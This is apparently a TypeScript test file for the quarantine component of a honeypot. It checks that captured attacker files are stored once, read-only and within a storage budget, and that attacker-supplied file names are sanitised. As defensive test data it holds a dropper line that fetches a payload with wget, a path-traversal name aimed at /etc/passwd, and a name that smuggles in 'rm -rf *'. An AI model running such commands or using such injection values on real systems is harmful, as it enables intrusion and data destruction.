import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { Quarantine, safeName } from './quarantine.js';

const dirs: string[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

describe('Quarantine', () => {
  it('stores content once under <time>_<sha12>_<name>, read-only', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'decnet-q-'));
    dirs.push(dir);
    const quarantine = new Quarantine(
      join(dir, 'captures'),
      () => Date.UTC(2026, 10, 27, 21, 5, 9),
      (err) => {
        throw err;
      },
    );
    const content = Buffer.from('#!/bin/sh\nwget http://203.0.113.5/x\n');
    const sha = createHash('sha256').update(content).digest('hex');
    const first = quarantine.keep('/tmp/.x/dropper.sh', content);
    const again = quarantine.keep('/root/copy.sh', content);
    await quarantine.flushed();
    expect(first).toEqual({
      storedAs: `2026-11-27T210509Z_${sha.slice(0, 12)}_dropper.sh`,
      sha256: sha,
      size: 36,
    });
    expect(again?.storedAs).toBe(first?.storedAs);
    const files = readdirSync(join(dir, 'captures'));
    expect(files).toEqual([first?.storedAs]);
    const path = join(dir, 'captures', files[0]!);
    expect(readFileSync(path)).toEqual(content);
    expect(statSync(path).mode & 0o777).toBe(0o400);
  });

  it("stops keeping files once the decky's quarantine holds its budget", async () => {
    const dir = mkdtempSync(join(tmpdir(), 'decnet-q-'));
    dirs.push(dir);
    const errors: string[] = [];
    const quarantine = new Quarantine(
      dir,
      () => 0,
      (err) => errors.push(err.message),
      100,
    );
    expect(quarantine.keep('/tmp/a', Buffer.alloc(60, 1))).not.toBeNull();
    expect(quarantine.keep('/tmp/b', Buffer.alloc(60, 2))).toBeNull();
    expect(quarantine.keep('/tmp/c', Buffer.alloc(30, 3))).not.toBeNull();
    expect(quarantine.keep('/tmp/d', Buffer.alloc(30, 4))).toBeNull();
    await quarantine.flushed();
    expect(errors).toHaveLength(1);
    expect(errors[0]).toContain('is full');
    expect(readdirSync(dir)).toHaveLength(2);
  });

  it('counts what an earlier run left in the directory against the budget', () => {
    const dir = mkdtempSync(join(tmpdir(), 'decnet-q-'));
    dirs.push(dir);
    writeFileSync(join(dir, 'earlier.eml'), Buffer.alloc(90));
    const quarantine = new Quarantine(
      dir,
      () => 0,
      () => {},
      100,
    );
    expect(quarantine.keep('/tmp/x', Buffer.alloc(20, 7))).toBeNull();
    expect(quarantine.keep('/tmp/y', Buffer.alloc(10, 8))).not.toBeNull();
  });

  it('makes any attacker-chosen name safe', () => {
    expect(safeName('/tmp/../../etc/passwd')).toBe('passwd');
    expect(safeName('/tmp/.bashrc')).toBe('_bashrc');
    expect(safeName('/tmp/a b;rm -rf *')).toBe('a_b_rm_-rf__');
    expect(safeName('/tmp/')).toBe('unnamed');
    expect(safeName(`/x/${'a'.repeat(300)}`)).toHaveLength(64);
  });
});
